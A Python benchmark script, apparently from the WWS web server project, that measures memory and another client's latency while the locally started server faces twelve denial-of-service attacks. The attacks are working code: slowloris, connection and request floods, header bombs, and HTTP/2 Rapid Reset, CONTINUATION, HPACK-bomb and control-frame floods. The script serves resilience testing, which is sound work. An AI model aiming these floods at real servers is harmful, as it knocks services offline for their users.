#!/usr/bin/env python3
"""What attacks do to an app: its memory, and the latency that another client sees.

    benches/attacks.py WWS [--seconds N]

Bundles a small site with `WWS`, starts the app anew for each attack, and prints a table. The other
client asks for a page every 2 ms, on a connection that it keeps, once without the attack and once during
it. All of them share the machine: what attackers do themselves costs the others time too, so the first
attack is none of that kind, but as many good requests as a client can send.
"""

import argparse
import itertools
import os
import pathlib
import resource
import socket
import struct
import subprocess
import tempfile
import time

GET = b"GET / HTTP/1.1\r\nhost: localhost\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6, 9
# GET http://a/ in HPACK: three fields of the static table and a literal.
FIELDS = b"\x82\x86\x84\x01\x01a"


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2 (RFC 9113, 4.1)."""
    head = struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
    return head + struct.pack(">I", stream) + payload


class App:
    """The app, started, until the end of a `with`."""

    def __init__(self, path, flags):
        command = [path, "--port", "0", *flags]
        self.process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        line = self.process.stdout.readline().decode()
        self.port = int(line.rsplit(":", 1)[1])

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.kill()
        self.process.wait()

    def connect(self):
        connection = socket.create_connection(("127.0.0.1", self.port), timeout=20)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return connection

    def memory(self, name):
        """VmRSS or VmHWM, in MiB."""
        status = pathlib.Path(f"/proc/{self.process.pid}/status").read_text()
        line = next(line for line in status.splitlines() if line.startswith(name))
        return int(line.split()[1]) / 1024

    def reset_peak(self):
        pathlib.Path(f"/proc/{self.process.pid}/clear_refs").write_text("5")


class Other:
    """Another client, and how long its answers took, in ms."""

    def __init__(self, app, seconds):
        self.app, self.end = app, time.monotonic() + seconds
        self.latencies, self.failed = [], 0

    def ask(self):
        connection = None
        while time.monotonic() < self.end:
            begin = time.monotonic()
            try:
                connection = connection or self.app.connect()
                connection.sendall(GET)
                if not connection.recv(65536).startswith(b"HTTP/1.1 200 "):
                    raise OSError("no answer")
            except OSError:
                self.failed += 1
                connection = None
            self.latencies.append((time.monotonic() - begin) * 1000)
            time.sleep(0.002)

    def quantile(self, part):
        ordered = sorted(self.latencies)
        return ordered[min(int(len(ordered) * part), len(ordered) - 1)]


def until(end, connection, pieces):
    """Sends pieces until the time is over or the connection is closed; reads what comes."""
    connection.setblocking(False)
    for piece in pieces:
        while piece and time.monotonic() < end:
            try:
                piece = piece[connection.send(piece):]
            except BlockingIOError:
                time.sleep(0.0005)
            except OSError:
                return
            try:
                if connection.recv(1 << 20) == b"":
                    return
            except BlockingIOError:
                pass
            except OSError:
                return
        if time.monotonic() >= end:
            return


def again(app, end, pieces):
    """Sends pieces on one connection after the other."""
    while time.monotonic() < end:
        try:
            connection = app.connect()
        except OSError:
            time.sleep(0.01)
            continue
        with connection:
            until(end, connection, pieces())


def http2(flood):
    """An attack that repeats what `flood` gives after the preface, one connection after the other."""

    def attack(app, end):
        again(app, end, lambda: itertools.chain([PREFACE + frame(SETTINGS, 0, 0)], flood()))

    return attack


def repeat(piece, times=200):
    return lambda: itertools.repeat(piece * times)


def rapid_reset():
    for first in range(1, 1 << 30, 200):
        streams = range(first, first + 200, 2)
        cancel = struct.pack(">I", 8)
        yield b"".join(frame(HEADERS, 5, s, FIELDS) + frame(RST_STREAM, 0, s, cancel) for s in streams)


def continuation():
    yield frame(HEADERS, 1, 1, FIELDS)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 100) * 10)


def hpack_bomb():
    long = b"\x40\x01x\x7f\xb9\x16" + b"v" * 3000 + b"\xbe" * 10_000
    return (frame(HEADERS, 5, stream, FIELDS + long) for stream in range(1, 1 << 30, 2))


def requests(app, end):
    again(app, end, repeat(GET, 100))


def header_bomb(app, end):
    head = b"GET / HTTP/1.1\r\nhost: a\r\nx: "
    again(app, end, lambda: itertools.chain([head], itertools.repeat(b"v" * 65536)))


def unread(app, end):
    """Requests without end, whose answers are not read; 200 connections."""
    connections = [app.connect() for _ in range(200)]
    for connection in connections:
        connection.setblocking(False)
    while time.monotonic() < end:
        for connection in connections:
            try:
                connection.send(GET * 500)
            except OSError:
                pass
        time.sleep(0.01)


def hold(count, first, then):
    """That many connections, which begin with some bytes, and then send one by one of others."""

    def attack(app, end):
        connections = []
        for _ in range(count):
            connection = app.connect()
            connection.sendall(first)
            connections.append(connection)
            if time.monotonic() > end:
                break
        for at in itertools.count():
            if time.monotonic() >= end:
                return
            for connection in connections if then else []:
                try:
                    connection.send(then[at % len(then):][:1])
                except OSError:
                    pass
            time.sleep(0.2)

    return attack


def open_and_close(app, end):
    while time.monotonic() < end:
        try:
            app.connect().close()
        except OSError:
            pass


ATTACKS = {
    "requests, pipelined and read": requests,
    "requests, pipelined, 200 connections that do not read": unread,
    "10,000 idle connections": hold(10_000, GET, b""),
    "slowloris: 1,000 heads, byte by byte": hold(1000, b"GET / HTTP/1.1\r\n", b"x: y\r\n"),
    "connections, opened and closed": open_and_close,
    "heads without an end": header_bomb,
    "HTTP/2: cancelled requests (CVE-2023-44487)": http2(rapid_reset),
    "HTTP/2: CONTINUATION (CVE-2024-27316)": http2(continuation),
    "HTTP/2: heads that unpack to 30 MB": http2(hpack_bomb),
    "HTTP/2: SETTINGS (CVE-2019-9515)": http2(repeat(frame(SETTINGS, 0, 0))),
    "HTTP/2: PING (CVE-2019-9512)": http2(repeat(frame(PING, 0, 0, b"pingpong"))),
    "HTTP/2: PRIORITY": http2(repeat(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"))),
}


def measure(path, name, attack, seconds):
    flags = ["--max-connections", "20000", "--max-connections-per-ip", "20000"]
    with App(path, flags) as app:
        quiet = Other(app, seconds)
        quiet.ask()
        app.reset_peak()
        before = app.memory("VmRSS")
        # Attacks that begin with many connections begin before the other client.
        head_start = 5 if name.startswith(("10,000", "slowloris")) else 0.2
        end = time.monotonic() + seconds + head_start
        attacker = os.fork()
        if attacker == 0:
            try:
                attack(app, end)
            finally:
                os._exit(0)
        time.sleep(head_start)
        other = Other(app, seconds)
        other.ask()
        peak = app.memory("VmHWM")
        os.waitpid(attacker, 0)
    cells = [quiet.quantile(0.5), quiet.quantile(0.99), other.quantile(0.5), other.quantile(0.99)]
    latencies = " | ".join(f"{cell:.2f}" for cell in cells)
    answers = len(other.latencies) - other.failed
    print(f"| {name} | {before:.1f} | {peak:.1f} | {latencies} | {answers} | {other.failed} |", flush=True)


def main():
    arguments = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    arguments.add_argument("wws")
    arguments.add_argument("--seconds", type=float, default=5)
    options = arguments.parse_args()
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    with tempfile.TemporaryDirectory() as folder:
        site, app = f"{folder}/site", f"{folder}/app"
        os.mkdir(site)
        pathlib.Path(f"{site}/index.html").write_text("<h1>Home</h1>" + "<p>A line.</p>\n" * 350)
        command = [options.wws, "bundle", site, "-o", app]
        subprocess.run(command, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        print("| attack | MiB before | MiB peak | p50 ms without | p99 | p50 ms during | p99 | answers | failed |")
        print("|---|---|---|---|---|---|---|---|---|")
        for name, attack in ATTACKS.items():
            measure(app, name, attack, options.seconds)


if __name__ == "__main__":
    main()
